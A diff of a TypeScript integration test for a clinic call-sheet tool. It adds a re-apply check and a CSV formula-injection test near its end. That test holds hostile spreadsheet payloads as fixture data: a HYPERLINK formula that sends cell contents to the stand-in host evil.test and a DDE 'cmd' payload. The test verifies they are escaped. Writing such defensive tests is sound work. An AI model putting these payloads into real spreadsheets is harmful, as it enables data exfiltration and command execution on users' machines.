@@ -16,7 +16,13 @@ import path from 'node:path'
 import { isDeepStrictEqual } from 'node:util'
 import postgres from 'postgres'
 import { runApply, runQueue, runStatus, type Io } from '../../ops/lib/cli.ts'
-import { csvObjects, parseCsv, stringifyCsv } from '../../ops/lib/csv.ts'
+import { parse } from 'csv-parse/sync'
+import {
+  FORMULA_START,
+  csvObjects,
+  parseCsv,
+  stringifyCsv,
+} from '../../ops/lib/csv.ts'
 import { SHEET_COLUMNS } from '../../ops/lib/queue.ts'
 
 const url = process.env.DATABASE_URL
@@ -349,16 +355,30 @@ async function main() {
     'the public (anon) reads the new confirmed date',
   )
 
-  // The same sheet again: those clinics changed since it was written.
+  // The same sheet again: already applied (the record beside the sheet and
+  // the database's events say so); a copy without that record is refused.
   const before = await state()
   r = io()
   ok(
-    (await runApply([sheet, '--to', 'db', '--yes'], r.io)) === 1 &&
+    (await runApply([sheet, '--to', 'db', '--yes'], r.io)) === 0 &&
+      r.out.length === 1 &&
+      r.out[0]!.startsWith('Already applied on ') &&
+      r.out[0]!.endsWith(
+        ' to the database: round-1.csv has nothing left to do.',
+      ),
+    "the same sheet again: 'already applied on …'",
+    r.out,
+  )
+  const copy = path.join(dir, 'round-1-copy.csv')
+  writeFileSync(copy, readFileSync(sheet))
+  r = io()
+  ok(
+    (await runApply([copy, '--to', 'db', '--yes'], r.io)) === 1 &&
       r.err.filter((l) => l.includes('changed since the sheet was written'))
         .length === 7,
-    'the same sheet again is refused: every clinic changed since it',
+    'a copy of it (no record of its apply) is refused: every clinic changed since it',
   )
-  ok(isDeepStrictEqual(await state(), before), '… and changes nothing')
+  ok(isDeepStrictEqual(await state(), before), '… and neither changes anything')
 
   // The next queue.
   const next = await queue(NOW, 'round-2')
@@ -465,6 +485,48 @@ async function main() {
       report.overall.clinics === start.clinics.length,
     'status --from db counts the round',
     report.overall,
+  )
+
+  // Facts in the database that a spreadsheet would run: written into the
+  // sheet with a leading apostrophe, read back exactly.
+  const hostile = {
+    name: '=HYPERLINK("http://evil.test/?"&A1,"Call")',
+    address: "+cmd|' /C calc'!A0",
+    website: '@SUM(1+1)',
+    hours_monday: '=1+1',
+  }
+  const target = next.call.find((c) => c.id !== spare!.id)!
+  await sql`update public.clinics set ${sql(hostile)} where id = ${target.id!}`
+  const sheets = path.join(dir, 'round-formulas')
+  r = io()
+  await runQueue(['--from', 'db', '--out', sheets, '--limit', '100'], r.io)
+  const sheetText = readFileSync(
+    path.join(
+      sheets,
+      readdirSync(sheets).find(
+        (f) => f.startsWith('call-sheet') && f.endsWith('.csv'),
+      )!,
+    ),
+    'utf8',
+  )
+  const cells = (
+    parse(sheetText.slice(1), { relax_column_count: true }) as string[][]
+  ).flat()
+  ok(
+    !cells.some((c) => FORMULA_START.test(c)) &&
+      Object.values(hostile).every((v) => cells.includes(`'${v}`)),
+    'queue --from db: every formula-like fact is written with a leading apostrophe (4 of 4)',
+  )
+  const back = csvObjects(parseCsv(sheetText)).rows.find(
+    (row) => row.cells.id === target.id,
+  )?.cells
+  ok(
+    back?.name === hostile.name &&
+      back.address === hostile.address &&
+      back.website === hostile.website &&
+      back.hours_monday === hostile.hours_monday,
+    '… and read back exactly as the database has them',
+    back,
   )
 }
 
